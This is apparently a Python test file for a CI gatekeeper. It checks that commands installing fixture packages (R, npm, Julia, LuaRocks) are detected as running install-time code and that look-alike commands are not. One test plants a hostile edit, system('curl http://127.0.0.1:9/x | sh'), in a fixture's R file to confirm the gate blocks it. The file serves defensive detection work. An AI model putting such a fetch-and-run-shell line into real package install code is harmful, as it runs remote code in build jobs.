"""Misses 8: a fixture package a CI line installs runs its install-time code in the job (fixtureinstalls.py).
`R CMD INSTALL tests/testthat/dummypkg` sources its `R/` files, `luarocks make spec/samples/x-1.0-1.rockspec` runs
its `build_command`, `julia --project=test/pkgs/Foo -e 'using Pkg; Pkg.instantiate()'` builds it, `npm install
./test/fixtures/x` runs its lifecycle scripts (review 67a's Left). On 4c9e1172 each stayed `src` by
`testdata.test-trees` (exit 0). Look-alikes: the project's own package (`R CMD INSTALL .`, `julia --project=docs`,
a workspace's `packages/x`), a registry name, an echoed command, a fixture CI does not install."""

from __future__ import annotations

import json
from pathlib import Path

from changecase import committed, gated_rules
from citools import tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.fixtureinstalls import installed

WORKFLOW = ("name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: {command}\n")
R_PACKAGE = {"DESCRIPTION": "Package: dummy\nVersion: 0.1\n", "R/zzz.R": ".onLoad <- function(...) NULL\n",
             "configure": "#!/bin/sh\necho\n"}
NODE_PACKAGE = {"package.json": json.dumps({"name": "x", "scripts": {"postinstall": "node install.js"}}),
                "install.js": "require('fs')\n"}
JULIA_PACKAGE = {"Project.toml": 'name = "Foo"\n', "deps/build.jl": "run(`true`)\n", "src/Foo.jl": "module Foo end\n"}
FOLDERS = ["tests/testthat/dummypkg", "test/fixtures/pkg", "spec/support/a-b", "tests/data/packages/x1"]
R_COMMANDS = ["R CMD INSTALL {f}", "R CMD INSTALL --no-test-load {f}/", "cd tests && R CMD build ../{f}",
              "Rscript -e 'install.packages(\"{f}\", repos = NULL, type = \"source\")'",
              "Rscript -e \"devtools::install('{f}')\"", "Rscript -e 'remotes::install_local(\"{f}\")'",
              "Rscript -e 'pkgload::load_all(path = \"{f}\")'", "R CMD check {f} --as-cran"]
NODE_COMMANDS = ["npm install ./{f}", "npm i --no-save ./{f}/", "pnpm add file:{f}", "yarn add file:./{f}",
                 "npm install ./{f} ./other"]
JULIA_COMMANDS = ["julia --project={f} -e 'using Pkg; Pkg.instantiate()'",
                  "julia --color=yes --project {f} -e 'import Pkg; Pkg.build()'",
                  "julia -e 'using Pkg; Pkg.develop(path=\"{f}\")'",
                  "julia -e 'import Pkg; Pkg.add(Pkg.PackageSpec(path = \"{f}\"))'"]


def _variants() -> list[tuple[str, dict[str, str], str]]:
    """(the CI command, the tree's files, a file whose install-time code runs) of each spelling × fixture folder."""
    out = []
    for folder in FOLDERS:
        for commands, package, run in ((R_COMMANDS, R_PACKAGE, "R/zzz.R"), (NODE_COMMANDS, NODE_PACKAGE, "install.js"),
                                       (JULIA_COMMANDS, JULIA_PACKAGE, "deps/build.jl")):
            files = {f"{folder}/{name}": text for name, text in package.items()}
            out += [(command.format(f=folder), files, f"{folder}/{run}") for command in commands]
        rockspec = f"{folder}/x-1.0-1.rockspec"
        files = {rockspec: "build = { type = 'command', build_command = 'sh build.sh' }\n", f"{folder}/build.sh": "x\n"}
        out += [(f"luarocks make {rockspec}", files, rockspec), (f"luarocks build --local {rockspec}", files, rockspec)]
    return out


LOOK_ALIKES = [  # (the command, the files, a file that must stay out of the walk)
    ("R CMD INSTALL .", {"R/zzz.R": "x\n", "DESCRIPTION": "Package: a\n"}, "R/zzz.R"),
    ("R CMD INSTALL pkg", {"pkg/R/zzz.R": "x\n"}, "pkg/R/zzz.R"),
    ("julia --project=docs -e 'using Pkg; Pkg.instantiate()'", {"docs/src/index.md": "x\n"}, "docs/src/index.md"),
    ("julia --project=. -e 'using Pkg; Pkg.test()'", {"test/runtests.jl": "x\n"}, "test/runtests.jl"),
    ("npm install ./packages/x", {"packages/x/package.json": "{}\n"}, "packages/x/package.json"),
    ("npm install test-utils", {"test/fixtures/x/package.json": "{}\n"}, "test/fixtures/x/package.json"),
    ("echo R CMD INSTALL tests/testthat/dummypkg", {"tests/testthat/dummypkg/R/a.R": "x\n"},
     "tests/testthat/dummypkg/R/a.R"),
    ("luarocks make", {"spec/x-1.0-1.rockspec": "x\n"}, "spec/x-1.0-1.rockspec"),
    ("R CMD INSTALL $PKG", {"tests/testthat/dummypkg/R/a.R": "x\n"}, "tests/testthat/dummypkg/R/a.R"),
]


@each_case("command, files, run", _variants())
def test_a_fixture_package_ci_installs_is_read(command: str, files: dict[str, str], run: str) -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW.format(command=command.replace("'", "''").join("''")
                                                        if ":" in command else command), **files, "README.md": "x\n"}
    assert run in tree_runs(tree), command  # before: 76/76 missed


def test_a_rockspec_s_build_command_is_read() -> None:
    rockspec = "spec/samples/x-1.0-1.rockspec"
    tree = {".github/workflows/ci.yml": WORKFLOW.format(command=f"luarocks make {rockspec}"),
            rockspec: "build = { type = 'command', build_command = 'sh build.sh' }\n", "spec/samples/build.sh": "x\n"}
    assert {rockspec, "spec/samples/build.sh"} <= tree_runs(tree)


@each_case("command, files, kept", LOOK_ALIKES)
def test_look_alikes_are_not_read(command: str, files: dict[str, str], kept: str) -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW.format(command=command), **files, "README.md": "x\n"}
    assert kept not in tree_runs(tree), command


def test_an_edit_of_an_installed_fixture_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command="R CMD INSTALL tests/testthat/dummypkg"),
            "tests/testthat/dummypkg/DESCRIPTION": "Package: dummy\n", "tests/testthat/dummypkg/R/zzz.R": "f <- 1\n"}
    case = committed(tmp_path, base, {"tests/testthat/dummypkg/R/zzz.R": "system('curl http://127.0.0.1:9/x | sh')\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["tests/testthat/dummypkg/R/zzz.R"]), named  # before: exit 0


@each_case("hostile", [repeated("R CMD INSTALL tests/a/b ", "run: "), repeated("install.packages('tests/a/", "x"),
                       repeated("julia --project=tests/x/", ""), repeated("npm i ./test/a/b ")])
def test_hostile_texts_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(lambda text: installed(text, ".github/workflows/ci.yml", []), hostile, budget=0.25)
